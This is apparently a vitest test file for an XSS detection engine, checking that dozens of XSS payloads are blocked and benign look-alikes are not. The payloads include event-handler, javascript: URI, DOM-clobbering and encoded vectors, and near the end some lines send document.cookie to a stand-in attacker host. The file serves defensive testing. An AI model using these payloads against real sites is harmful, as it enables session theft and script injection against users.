import { beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { loadHarness, type Harness } from "../support/harness.js";

// TargetKind values (assembly/engine/target.ts).
const ARG = 2;
const HEADER = 3;
const BODY = 8;

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

function xss(input: string, kind = ARG, paranoia = 1): { score: number; ids: number[] } {
  const out = JSON.parse(h.callString("detectOne", "xss", input, kind, "args:q", paranoia));
  return { score: out.score, ids: out.ids.map((m: { id: number }) => m.id) };
}

// Attacks: each must reach the blocking threshold (5) at paranoia 1, through the rule named.
const attacks: [string, number][] = [
  ["<script>alert(1)</script>", 3001],
  ["<SCRIPT SRC=//evil.example/x.js></SCRIPT>", 3001],
  ["<svg/onload=alert(1)>", 3002],
  ["<img src=x onerror=alert(document.domain)>", 3002],
  ["<svG/x=\">\"/oNloaD=confirm()//", 3002],
  ["<x/Onpointerrawupdate=confirm&lpar;)>", 3002],
  ["<details/open/ontoggle=\"x\">", 3002],
  // AngularJS binds DOM events as ng-<event> (also data-ng-, x-ng-): a page compiling user markup runs them
  ["<div ng-focus=\"$event.view.alert(1)\" tabindex=1 autofocus>", 3002],
  ["<x ng-init=\"$event.view.alert(1)\">", 3002],
  ["<input DATA-NG-MOUSEOVER=\"$event.view.confirm(1)\">", 3002],
  ["<iframe srcdoc=\"<img src=1 onerror=alert(1)>\"></iframe>", 3001],
  ["<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">", 3001],
  ["< x: script", 3001],
  ["<f o r m action=x>", 3001],
  ["<v:vmlframe src=\"foo.com/sup.fml\"/>", 3001],
  ["<meta http-equiv=\"refresh\" content=\"0;url=//evil\">", 3001],
  ["<base href=\"//evil/\">", 3001],
  ["<link rel=import href=x.html>", 3001],
  ["<embed src=\"deuce.swf\">", 3001],
  ["<?import implementation=\"x.htc\">", 3001],
  ["＜script＞alert(1)＜/script＞", 3001],
  ["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", 3001],
  ["</script><script>alert(1)</script>", 3006],
  ["</textarea><b>", 3006],
  ["javascript:alert(1)", 3003],
  ["jav&#x09;ascript:alert(1)", 3003],
  ["ja&Tab;vascript&colon;alert(1)", 3003],
  ["java\tscript:alert(1)", 3003],
  ["&#106;avascript:alert(1)", 3003],
  ["vbscript:msgbox(1)", 3003],
  ["data:text/html;base64,PHNjcmlwdD4=", 3003],
  [" data: , <x>", 3003],
  ["\" onmouseover=alert(1) x=\"", 3004],
  ["' autofocus onfocus=alert(1) '", 3004],
  ["x\"//onfocus=prompt(1)>", 3004],
  ["\"/x/onauxclick=alert(1)//", 3004],
  ["Mozilla/5.0 (compatible; onload=alert(document.domain))", 3004],
  ["'formaction=//evil", 3004],
  // a handler opening a line still counts when its value runs or escapes something, or closes a tag
  ["x\nonerror=alert(1)\ny", 3004],
  ["x\n onfocus=location=name\n", 3004],
  ["[Timer]\nonload=alert`1`\n", 3004],
  ["a\nonclick=top[8680439..toString(30)]\n", 3004],
  ["a\nonclick=x>\n", 3004],
  ["a\nonmouseover=alert&lpar;1&rpar;\n", 3004],
  // an inert value on one line with no line before it is judged as before (not a file's line)
  ["OnCalendar=*-*-*", 3004],
  ["';alert(1)//", 3007],
  ["'-alert(1)//", 3007],
  ["(alert)(1)", 3007],
  ["alert`1`", 3007],
  ["prompt.call(null,1)", 3007],
  ["eval(atob(\"YWxlcnQoKQ==\"))", 3007],
  ["x\";setTimeout(name, 1)//", 3007],
  ["new Function('alert(1)')()", 3007],
  ["document.cookie", 3008],
  ["document/*foo*/./*bar*/cookie", 3008],
  ["window[\"alert\"](1)", 3008],
  ["window /* x */ [\"alert\"](1)", 3008],
  ["alert /* x */ (1)", 3007],
  ["(document)[\"cookie\"]", 3008],
  ["self[\"$\"][\"globalEval\"](\"alert(1)\")", 3008],
  ["background:url(javascript:alert(1))", 3011],
  ["STYLE=X:URL(JAVASCRIPT", 3011],
  ["width: expression(alert(1))", 3011],
  ["-moz-binding:url(http://x/xss.xml#xss)", 3011],
  ["x {{constructor.constructor('alert(1)')()}} y", 3012],
  ["(![]+[])[+!+[]]", 3013],
  ["[].sort.call`${alert}1337`", 3014],
  ["[  ] . sort . call ` ${ alert } 1337 `", 3014],
  ["#@~^CAAAAA==C^+.D`8#mgIAAA==^#~@", 3018],
  ["-->", 3019],
];

// Benign look-alikes: must stay below the threshold at paranoia 1.
const benign: string[] = [
  // a word then `+[]` adds (a regex's `\s+\[\]` unescaped); JSFuck's unary `+[]` follows a symbol
  "^(zone|project)\\s+\\[\\]weight\\.[0-9a-f]+$",
  "a < b and c > d",
  "I <3 this product",
  "if (x<y && y>z) return 1;",
  "Array<string> and Map<string, number>",
  "List<Map<String, Object>>",
  "Contact: John Smith <john.smith@example.com>",
  "<https://www.gnu.org/licenses/gpl.html>",
  "<Knghtbrd> hello there",
  "2 < 3 > 1",
  "JavaScript: Basics of JavaScript Language",
  "The onion=layered vegetable",
  // a key opening a line of a config file or a settings list, its value inert to the line's end
  "[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true",
  "[Timer]\r\nOnCalendar=*-*-* 6,18:00\r\nPersistent=true",
  "\u2713 OnActiveSec=\n\u2713 OnBootSec=\n\u2713 OnCalendar=\n  Unit=",
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "https://example.com/search?q=onload&sort=asc",
  "Please confirm your email address",
  "The expression (a + b) * c is evaluated first",
  "Expected behavior: the page loads",
  "user@example.com",
  "O'Brien said \"hello\"; then left",
  "step 1 --> step 2",
  "- [ ] todo\n- [x] done",
  "[![Build Status](https://ci.example.com/badge.svg)](https://ci.example.com)",
  "const ws = new WebSocket('wss://x');\nconsole.log('closed');\n  setTimeout(function timeout() {\n ws.send(1);\n }, 500);",
  "app.get('/', function (req, res) { res.send('Hello') })",
  "Use `{{ name }}` in the template to print the name",
  "See document.pdf and window.png",
  "Here's a video: <a href=\"https://www.youtube.com/watch?v=abc\">link</a>",
  "<!-- eslint-disable no-undef -->",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
  "\"Chromium\";v=\"122\", \"Not(A:Brand\";v=\"24\"",
  "t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51onabcd=6yJV_adQssw5c",
];

describe("xss detector", () => {
  it.each(attacks)("blocks %j (rule %i)", (input, rule) => {
    const r = xss(input);
    expect(r.ids).toContain(rule);
    expect(r.score).toBeGreaterThanOrEqual(5);
  });

  it.each(benign)("lets %j through", (input) => {
    expect(xss(input).score).toBeLessThan(5);
  });

  it("reads only AngularJS's event directives as handlers, not its other attributes or class names", () => {
    for (const v of ['<div ng-model="name">', '<li ng-repeat="x in items">', '<div class="ng-click">', '<p x-ng-bind="title">', "<a data-ng-href=\"/docs\">"]) {
      expect(xss(v).ids, v).not.toContain(3002);
      expect(xss(v).score, v).toBeLessThan(5);
    }
  });

  // DOM clobbering: the markup runs nothing itself, it replaces what the page's script reads (3023; the tags
  // that run or load content, <embed name=...>, <iframe name=...>, are 3001 already)
  it.each([
    "<a id=x><a id=x name=src href=//evil.example/x.js>",
    '<a id="cfg"></a><a id="cfg" name="url" href="https://evil.example/p.js">',
    "<A ID=defaultAvatar><A ID=defaultAvatar NAME=avatar HREF=cid:x>",
    "<img name=getElementById>",
    "<img name='cookie' src=x>",
    '<form id=f><input name="attributes"></form>',
    "<input id=attributes>",
    "<img name=currentScript src=//evil.example/x>",
    "<form><img name=defaultView></form>",
    "<a id=x name=parentNode>",
    '<img src=x name="documentElement" alt="">',
  ])("blocks DOM clobbering %j (3023)", (input) => {
    const r = xss(input);
    expect(r.ids).toContain(3023);
    expect(r.score).toBeGreaterThanOrEqual(5);
  });

  it.each([
    "<a id=top href=#main>Back to top</a>",
    "<a name=section2></a><a href=#section2>jump</a>",
    '<img src=/logo.png alt=logo id=logo><img src=/logo2.png id=logo2>',
    '<td id=price class=num>1</td><td id=price class=num>2</td>',
    "<a id=download href=https://cdn.example.com/app.zip>Download</a>",
    '<input name=body size=40><input name=title>',
    '<input name=domain value=example.com>',
    "<img name=Cookie src=c.png>",
    "<a name=x><a name=x href=#x>",
    '<div id="a"><span id="b" name="c">',
  ])("lets %j through without 3023", (input) => {
    const r = xss(input);
    expect(r.ids).not.toContain(3023);
    expect(r.score).toBeLessThan(5);
  });

  // Script that assigns instead of calling (navigation to window.name, markup written into the page)
  it.each([
    "<script>location=name</script>", "<script>top[name]=1</script>", "<svg><script>location=window.name</script>",
    "<script>document.body.innerHTML=name</script>", "javascript:location=name", "javascript:void(location=name)",
    "javascript:document.body.innerHTML=location.hash", "javascript:top.location='//evil.example'",
    "<img src=x onerror=location=name>", "\" autofocus onfocus=location=name x=\"",
  ])("blocks %j, which assigns rather than calls", (input) => expect(xss(input).score).toBeGreaterThanOrEqual(5));
  it.each(["location = name of the venue", "the top name = Smith", "set document.body.innerHTML in your own code", "JavaScript: location is a property of window"])(
    "lets %j through", (input) => expect(xss(input).score).toBeLessThan(5));

  it("finds attacks in headers like in arguments", () => {
    expect(xss("Mozilla/5.0 <img onclick=alert(1)>", HEADER).ids).toContain(3002);
  });

  it("does not treat the markup of a whole XML body as injected HTML", () => {
    const soap = '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><a b="c">x</a></soapenv:Body></soapenv:Envelope>';
    expect(xss(soap, BODY).score).toBe(0);
    expect(xss('<root><a href="x" onclick="alert(1)"/></root>', BODY).ids).toContain(3002);
    // an Atom feed's own </title> closes its element, no raw-text context of a page
    expect(xss("<feed><title>Entity framework tips</title></feed>", BODY).score).toBe(0);
    expect(xss("</title><script>alert(1)</script>", ARG).ids).toContain(3006);
  });

  it("scores a plain tag only at paranoia 2", () => {
    expect(xss("<b>bold</b>", ARG, 1).score).toBe(0);
    expect(xss("<b>bold</b>", ARG, 2).ids).toContain(3017);
  });

  it("never traps and stays bounded on random input", () => {
    const alphabet = fc.constantFrom(..."<>/=\"'`&#;:({[]})!+-.\\ \t\nonscriptalertjavadocument{}x0\u00bc\u00ef".split(""));
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 300 }).map((a) => a.join("")), (s) => {
        const r = xss(s);
        expect(r.score).toBeGreaterThanOrEqual(0);
      }),
      { numRuns: 300 },
    );
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => {
        xss(Buffer.from(bytes).toString("latin1"));
      }),
      { numRuns: 200 },
    );
  });
});

describe("xss detector regressions from the dev corpus", () => {
  const NAME = 1;
  it.each([
    // `&gt;+src+onerror=confirm(1)` in a query: the `&` of the entity splits the pair, the name keeps the handler.
    ["gt; src onerror", NAME, 3004],
    ["¼script¾alert(1)¼/script¾", ARG, 3001],
    ["\u00bctest\u00bethis", ARG, 3001],
    ["setInterval(code, 1)", ARG, 3007],
    ["atob()", ARG, 3007],
    ["<a href=\"test\"", ARG, 3021],
    ["<img src=\"x\" class=\"y\"", ARG, 3021],
    ["<noscript#", ARG, 3001],
    ["'  infoo.bar=", ARG, 3022],
    ["\"in valueOf=", ARG, 3022],
    [" !![]", ARG, 3013],
    ["+[]", ARG, 3013],
    ["x)+[]", ARG, 3013],
    [" ADw-script AD4-", ARG, 3001],
    // UTF-7 `<` without a `+`, the only `<` of the value, after other punctuation (classify's table pass finds it after the loop)
    ["q: ADw-script AD4-alert(1) ADw-/script AD4-", ARG, 3001],
    ["x=1; ADw-iframe src=javascript:alert(1) AD4-", ARG, 3001],
  ] as [string, number, number][])("blocks %j (kind %i, rule %i)", (input, kind, rule) => {
    const r = xss(input, kind);
    expect(r.ids).toContain(rule);
    expect(r.score).toBeGreaterThanOrEqual(5);
  });

  it.each([
    ["first_name", NAME],
    ["onclick", NAME],
    ["'index.html=1", ARG],
    ["![](image.png)", ARG],
    ["setTimeout(function () { tick() }, 10)", ARG],
    // a link cut short inside its unquoted URL: the page's next byte ends it
    ["Here is the clip: <a href=https://video.example/watch?v=", ARG],
    // `\x22` reads as a quote only in a script string, where no page markup follows (crs-941130-21)
    ["Here is the clip: <a href=\\x22https://video.example/watch?v=", ARG],
  ] as [string, number][])("lets %j through (kind %i)", (input, kind) => {
    expect(xss(input, kind).score).toBeLessThan(5);
  });
});

// xss/breakouts.ts scanAttributeBreakout: a handler after blanks that follow the value's first quote closed
// the page's attribute value, whatever the handler's own value looks like (HTML names fold case).
describe("xss: a handler after the quote that closes the page's attribute", () => {
  it.each([
    ["\" onmouseenter=new Image().src='//x.example/?c='+document.cookie", ARG],
    ["\" ONMOuSEenteR=NeW iMAgE().Src='//atTackeR.EXamPlE/?c='+DOCUment.COOkie", ARG],
    ["'\tonfocus=location autofocus x='", HEADER],
    ["\"  onpointerdown=top x=\"", BODY],
  ] as [string, number][])("blocks %j (kind %i)", (input, kind) => {
    const r = xss(input, kind);
    expect(r.ids).toContain(3004);
    expect(r.score).toBeGreaterThanOrEqual(5);
  });

  it.each([
    // the quote before the handler-like name closes a string of the value's own
    ["status=\"active\" online=yes", ARG],
    ["a=\"x\" onhold=true next", ARG],
    // no quote before it, and prose after `=`
    ["onion=layered vegetable", ARG],
    ["\"quoted\" and then onboarding=complete", ARG],
  ] as [string, number][])("lets %j through (kind %i)", (input, kind) => {
    expect(xss(input, kind).score).toBeLessThan(5);
  });
});
